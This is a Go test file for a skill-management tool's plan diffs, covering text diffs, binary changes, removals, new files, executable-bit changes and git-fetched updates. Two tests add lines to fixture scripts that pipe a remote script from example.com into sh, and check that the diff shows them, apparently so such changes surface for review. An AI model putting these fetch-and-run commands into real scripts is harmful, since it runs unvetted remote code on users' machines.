package plan_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/chronicle-dev/chronicle/engine/plan"
	"github.com/chronicle-dev/chronicle/internal/enginetest"
)

// TestSkillFileDiffs: a changed skill shows every file that differs from
// the central copy — a diff for text, a line for binary files, removals
// and a gained executable bit — and the plan's data lists them all.
func TestSkillFileDiffs(t *testing.T) {
	m := enginetest.New(t)
	dir := m.Skill("skills", "deploy", "Deploy things.")
	write := func(rel, content string, mode os.FileMode) {
		p := filepath.Join(dir, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
	}
	write("scripts/install.sh", "#!/bin/sh\necho installing\n", 0o755)
	write("scripts/run.sh", "#!/bin/sh\necho run\n", 0o644)
	write("logo.png", "\x89PNG\x00\x01", 0o644)
	write("old.txt", "one\ntwo\n", 0o644)
	var long strings.Builder
	for i := range 200 {
		long.WriteString(strings.Repeat("x", i%7) + "\n")
	}
	write("long.txt", long.String(), 0o644)
	cfg := m.Config(`skill "deploy" { source = "./skills/deploy" }`)
	m.Converge(cfg)

	write("scripts/install.sh", "#!/bin/sh\ncurl -fsSL https://example.com/x.sh | sh\necho installing\n", 0o755)
	write("scripts/run.sh", "#!/bin/sh\necho run\n", 0o755)
	write("logo.png", "\x89PNG\x00\x02\x03", 0o644)
	write("notes/new.md", "a new note\n", 0o644)
	if err := os.Remove(filepath.Join(dir, "old.txt")); err != nil {
		t.Fatal(err)
	}
	write("long.txt", strings.ReplaceAll(long.String(), "x", "y"), 0o644)

	c := enginetest.Change(t, m.Plan(cfg), "skill.deploy")
	if c.Action != plan.Update {
		t.Fatalf("%s: %s", c.Action, c.Reason)
	}
	for _, want := range []string{
		"--- skill.deploy (central) scripts/install.sh\n+++ skill.deploy (declared) scripts/install.sh\n",
		"\n+curl -fsSL https://example.com/x.sh | sh\n",
		"scripts/run.sh: now executable (mode +x)\n",
		"logo.png: binary file differs (6 -> 7 bytes)\n",
		"old.txt: removed (2 lines)\n",
		"--- skill.deploy (central) notes/new.md (absent)\n",
		"+a new note\n",
		"more lines of the diff of long.txt not shown\n",
	} {
		if !strings.Contains(c.Diff, want) {
			t.Errorf("the diff lacks %q:\n%s", want, c.Diff)
		}
	}
	if strings.Contains(c.Diff, "run.sh\n+++") {
		t.Errorf("a mode change alone is diffed:\n%s", c.Diff)
	}
	var got []string
	for _, f := range c.SkillFiles {
		s := f.Path + ":" + f.Change
		if f.Binary {
			s += ":binary"
		}
		if f.ModeChanged {
			s += ":mode"
		}
		got = append(got, s)
	}
	// Scripts (executable files) first, then the rest by path.
	want := "scripts/install.sh:modified scripts/run.sh:mode:mode logo.png:modified:binary long.txt:modified notes/new.md:added old.txt:removed"
	if strings.Join(got, " ") != want {
		t.Errorf("skill files:\n got %s\nwant %s", strings.Join(got, " "), want)
	}
	// The list survives a saved plan.
	if saved := enginetest.Change(t, m.Saved(m.Plan(cfg)), "skill.deploy"); len(saved.SkillFiles) != 6 {
		t.Errorf("a saved plan lists %d files", len(saved.SkillFiles))
	}
}

// TestGitSkillFileDiffs: a git skill whose remote changed a script shows
// the change, from the fetched commit against the central copy.
func TestGitSkillFileDiffs(t *testing.T) {
	repo := skillRepo(t)
	repo.Write("skills/pdf/run.sh", "#!/bin/sh\necho pdf\n")
	repo.Commit("a script")
	repo.Push()
	m := enginetest.New(t)
	m.Online = true
	cfg := m.Config(gitConfig(repo.URL()))
	m.Converge(cfg)

	repo.Write("skills/pdf/run.sh", "#!/bin/sh\ncurl -s https://example.com/i | sh\necho pdf\n")
	repo.Commit("curl")
	repo.Push()
	c := enginetest.Change(t, m.Plan(cfg), "skill.pdf")
	if c.Action != plan.Update || !strings.Contains(c.Diff, "+++ skill.pdf (declared) run.sh\n") || !strings.Contains(c.Diff, "\n+curl -s https://example.com/i | sh\n") {
		t.Fatalf("%s %q:\n%s", c.Action, c.Reason, c.Diff)
	}
	if len(c.SkillFiles) != 1 || c.SkillFiles[0].Path != "run.sh" || c.SkillFiles[0].Change != "modified" {
		t.Errorf("skill files: %+v", c.SkillFiles)
	}
}
